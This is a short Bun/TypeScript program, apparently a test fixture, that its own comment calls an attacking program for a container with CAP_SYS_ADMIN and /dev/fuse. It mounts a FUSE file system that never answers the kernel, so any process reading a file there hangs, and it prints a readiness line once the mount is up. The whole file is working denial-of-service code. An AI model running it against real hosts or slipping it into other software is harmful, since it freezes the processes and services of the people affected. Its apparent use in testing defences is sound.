/**
 * An attacking program inside a container that has CAP_SYS_ADMIN and /dev/fuse: it serves a file system at the path that is its
 * argument, and never answers what the kernel asks of it. A process that looks at a file there waits until this one ends.
 * It prints a line of JSON, `{"ready": true}`, once the file system is mounted.
 */
import { dlopen, FFIType } from "bun:ffi"
import { mkdirSync, openSync } from "node:fs"

const { symbols: c } = dlopen("libc.so.6", {
  mount: {
    args: [FFIType.cstring, FFIType.cstring, FFIType.cstring, FFIType.u64, FFIType.cstring],
    returns: FFIType.i32,
  },
})

const [path = "/mnt"] = process.argv.slice(2)
const text = (value: string) => Buffer.from(`${value}\0`)
mkdirSync(path, { recursive: true })
const device = openSync("/dev/fuse", "r+")
const options = `fd=${device},rootmode=40000,user_id=0,group_id=0`
const [source, target, data] = [text("fuse"), text(path), text(options)]
if (c.mount(source, target, source, 0n, data) !== 0) throw new Error(`cannot mount at ${path}`)
console.log(JSON.stringify({ ready: true }))
setInterval(() => {}, 1 << 30)
